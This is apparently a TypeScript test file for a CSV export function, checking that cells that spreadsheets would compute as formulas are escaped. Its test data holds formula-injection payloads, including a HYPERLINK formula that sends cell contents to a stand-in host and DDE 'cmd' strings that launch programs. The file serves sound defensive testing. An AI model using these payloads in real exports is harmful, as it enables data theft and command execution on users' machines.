import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readCsv, spreadsheetCells } from '#tests/support/csv.ts';
import { seed } from '#tests/support/seed.ts';
import { csvLine } from './export-csv.ts';

test('cells with commas, quotes and line ends are read back as they were', () => {
  const cells = ['Åke', 'Lind, Ella', 'Ella "Elle"', 'one\r\ntwo', '', ' '];
  expect(csvLine(cells)).toBe('Åke,"Lind, Ella","Ella ""Elle""","one\r\ntwo",, \r\n');
  expect(readCsv(csvLine(cells) + csvLine(['']))).toEqual([cells, ['']]);
});

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  '+46 70 123 45 67',
  '-2+3',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '＝1+1',
  ' =1+1',
  '"=1+1',
  '\u200b=1+1',
  '\u2060"\ufeff +1',
  '\ttab',
  '\r\nline',
])('the text %j is escaped, so that no spreadsheet computes it', (text) => {
  const [[cell] = []] = readCsv(csvLine([text]));
  expect(cell).toBe(`'${text}`);
});

test('a formula after a semicolon or a line end in a cell is escaped', () => {
  const [[cell] = []] = readCsv(csvLine(["Ella;=cmd|' /C calc'!A0; +1;;-1\n=1"]));
  expect(cell).toBe("Ella;'=cmd|' /C calc'!A0;' +1;;'-1\n'=1");
});

test('a formula after a semicolon and a quote is escaped', () => {
  const line = csvLine(['Kim', 'Ella;"=1+1;', 'Vän']);
  expect(readCsv(line)).toEqual([['Kim', 'Ella;\'"=1+1;', 'Vän']]);
  expect(spreadsheetCells(line, ';')).toEqual(['Kim,"Ella', '\'""=1+1', ',Vän\r\n']);
});

const SIGNS = ['=', '+', '-', '@', '＝', ';', '"', ',', ' ', '\t', '\r\n', '\u200b', '\u2060', "'", 'Ella'];

test('random cells contain no formula, whichever separator the spreadsheet uses', () => {
  const text = fc.array(fc.constantFrom(...SIGNS), { maxLength: 8 }).map((parts) => parts.join(''));
  const table = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 3 });
  fc.assert(
    fc.property(table, fc.constantFrom(',', ';', ',;', ',;\t'), (rows, separators) => {
      const shown = spreadsheetCells(rows.map((row) => csvLine(row)).join(''), separators);
      expect(shown.filter((cell) => /^["\s\p{Cf}]*[=+\-@＝]/u.test(cell))).toEqual([]);
    }),
    { numRuns: 2000, seed },
  );
});

test('text that is no formula is unchanged', () => {
  for (const text of [
    '070-123 45 67',
    '1+1',
    "O'Hara",
    '(08) 123',
    'a=b',
    'a; b',
    'kom 10:00 → 10:05; gick -',
  ]) {
    expect(csvLine([text])).toBe(`${text}\r\n`);
  }
});
